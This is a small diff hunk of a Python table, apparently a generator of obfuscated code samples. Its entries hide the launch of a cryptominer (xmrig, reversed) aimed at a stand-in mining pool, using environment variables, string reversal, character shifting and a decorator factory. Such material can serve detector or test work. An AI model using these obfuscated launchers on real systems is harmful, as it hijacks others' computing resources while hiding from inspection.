@@ -672,7 +672,7 @@ TABLES = {
         f"sh({', '.join(repr(''.join(chr(ord(c) + 2) for c in w)) for w in MINER.split())})",
     "settings kept in os.environ, pulled and decoded by a decorator factory, spread into the runner":
         "import os, subprocess\n"
-        f"os.environ.update({{'P_BIN': 'girmx', 'P_POOL': '3333:ten.elpmaxe.loop'}})\n"
+        "os.environ.update({'P_BIN': 'girmx', 'P_POOL': '3333:ten.elpmaxe.loop'})\n"
         "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
         "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
         "@from_env('P_BIN', 'P_POOL')\ndef start(b, p):\n"
